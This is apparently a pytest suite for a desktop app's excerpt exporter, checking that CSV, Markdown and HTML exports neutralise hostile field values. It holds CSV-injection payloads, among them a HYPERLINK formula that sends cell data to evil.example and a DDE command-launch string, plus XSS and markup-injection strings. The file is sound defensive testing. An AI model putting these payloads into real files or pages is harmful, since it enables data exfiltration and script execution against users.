"""Issue 13, items 5 and 6: hostile excerpt contents cannot turn into formulas or markup.

CSV (OWASP CSV injection): a cell starting with = + - @ (or a tab / carriage return, or their
full-width forms) gets a leading apostrophe, in every text column. Markdown: every field is text; the
file is parsed by a CommonMark parser (markdown-it-py) and must have exactly the headings, quotes and
code spans the exporter made, with no raw HTML and no links. HTML: everything escaped. Real files
through `export()`, and the CLI end to end."""

from __future__ import annotations

import csv
import html
import io
import json
from pathlib import Path

import pytest

from desktop.core.excerpts.export import Excerpt, export
from tests.reliability.conftest import indexed_seed, run_cli

FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]

HOSTILE = [
    "\n# 伪造的标题\n",
    "```\n吞掉后面所有摘录",
    "<script>alert(1)</script>",
    "[点我](javascript:alert(1))",
    "![img](javascript:alert(2))",
    "<img src=x onerror=alert(3)>",
    "<javascript:alert(4)>",
    "    缩进成代码块",
    "---",
    "标题\n===",
    "1. 列表\n- 列表\n> 引用",
    "*强调* _强调_ **加粗** ~~删除~~ | 表格 |",
    "&lt; &amp; &#60; 实体",
    "反斜杠 \\ 结尾\\",
]


def _excerpts(field: str, values: list[str]) -> list[Excerpt]:
    out = []
    for i, v in enumerate(values):
        kw = {"text": f"正文{i}", "title": f"标题{i}", "city": "茂名市", "path": f"/a/{i}.txt", "note": ""}
        kw[field] = v
        out.append(Excerpt(**kw))
    return out


@pytest.mark.parametrize("field", ["text", "note", "title", "city", "person", "section", "path"])
def test_csv_never_starts_a_cell_with_a_formula(tmp_path, field):
    out = tmp_path / "x.csv"
    export(_excerpts(field, FORMULAS), "csv", out)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULAS)
    for row in body:
        for name, cell in zip(header, row):
            first = cell.lstrip(" \u3000")[:1]
            assert first not in set("=+-@\t\r＝＋－＠"), (name, cell)
    column = header.index(field)
    for value, row in zip(FORMULAS, body):  # the text is kept, after the apostrophe
        if field == "path":  # the file column may show only the name (what follows the last /)
            continue
        assert row[column][:1] == "'" and row[column][1:].strip() == value.strip(), (value, row[column])


def test_csv_ordinary_cells_are_untouched(tmp_path):
    out = tmp_path / "x.csv"
    ex = Excerpt(text="广东省总工会 2024-12-29", title="标题", city="茂名市", path="/a/b.txt", series_no=13, start=0, end=5)
    export([ex], "csv", out)
    row = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))[0]
    assert row["text"] == "广东省总工会 2024-12-29" and row["series_no"] == "13" and row["start"] == "0"


def _markdown_tokens(text: str):
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").parse(text)


@pytest.mark.parametrize("field", ["text", "note", "title", "person", "section", "path", "tags"])
def test_markdown_fields_stay_text(tmp_path, field):
    values = HOSTILE + ["a`b", "``", "x\ny"] if field == "path" else HOSTILE
    excerpts = _excerpts(field, [[v] if field == "tags" else v for v in values])
    out = tmp_path / "x.md"
    export(excerpts, "md", out, title="导出 # <b>标题</b>")
    md = out.read_text(encoding="utf-8")
    tokens = _markdown_tokens(md)
    kinds = [t.type for t in tokens]
    assert kinds.count("heading_open") == 2  # the title and the one city
    assert [t.tag for t in tokens if t.type == "heading_open"] == ["h1", "h2"]
    assert kinds.count("blockquote_open") == len(values)  # one quote per excerpt, none swallowed
    for bad in ("html_block", "code_block", "fence", "hr", "bullet_list_open", "ordered_list_open"):
        assert bad not in kinds, (bad, md)
    inline = [c for t in tokens if t.type == "inline" for c in t.children or []]
    for bad in ("html_inline", "link_open", "image", "em_open", "strong_open", "s_open"):
        assert bad not in {c.type for c in inline}, (bad, md)
    codes = [c.content for c in inline if c.type == "code_inline"]
    assert len(codes) == len(values)  # one path per excerpt, each whole
    rendered = "".join(c.content for c in inline if c.type in ("text", "code_inline"))
    for v in values:  # every value's words arrive as text
        for word in ("伪造的标题", "吞掉后面所有摘录", "alert(1)", "缩进成代码块", "强调"):
            if word in v:
                assert word in rendered
    if field == "path":
        assert "a`b" in codes and "``" in codes and "x\\ny" in codes


def test_markdown_excerpts_after_a_bare_fence_are_all_there(tmp_path):
    excerpts = [Excerpt(text="```", title="一", city="茂名市", path="/1.txt", note="```\n# 不是标题")]
    excerpts += [Excerpt(text=f"后面的摘录{i}", title=f"标题{i}", city="茂名市", path=f"/{i}.txt") for i in range(3)]
    out = tmp_path / "x.md"
    export(excerpts, "md", out)
    tokens = _markdown_tokens(out.read_text(encoding="utf-8"))
    assert [t.type for t in tokens].count("blockquote_open") == 4
    assert sum(t.type == "heading_open" for t in tokens) == 2


def test_html_export_escapes_every_field(tmp_path):
    fields = ["text", "note", "title", "city", "person", "section", "path"]
    excerpts = [e for f in fields for e in _excerpts(f, HOSTILE)]
    out = tmp_path / "x.html"
    export(excerpts, "html", out, title="<script>alert('t')</script>")
    page = out.read_text(encoding="utf-8")
    body = page.split("</style>", 1)[1]
    assert "<script" not in body and "<img" not in body and "javascript:alert(4)>" not in body
    assert "onerror=alert(3)>" not in body.replace("&gt;", "")  # the tag is text, not an element
    assert html.escape("<script>alert(1)</script>") in body


def test_cli_exports_hostile_bookmarks(tmp_path):
    data = indexed_seed(tmp_path)
    doc = json.loads(run_cli("search", "工会", "--json", data_dir=data).stdout)["hits"][0]["id"]
    note = '=HYPERLINK("http://evil.example","x")\n# 标题\n```'
    assert run_cli("bookmark", "add", doc, "--note", note, data_dir=data).returncode == 0
    for fmt in ("csv", "md"):
        proc = run_cli("export", "--format", fmt, "-o", tmp_path / f"o.{fmt}", data_dir=data)
        assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO((tmp_path / "o.csv").read_text(encoding="utf-8-sig"), newline="")))
    assert rows[0]["note"].startswith("'=HYPERLINK")
    tokens = _markdown_tokens((tmp_path / "o.md").read_text(encoding="utf-8"))
    assert sum(t.type == "heading_open" for t in tokens) == 2
    assert "fence" not in [t.type for t in tokens]
    assert Path(tmp_path / "o.md").stat().st_size > 0
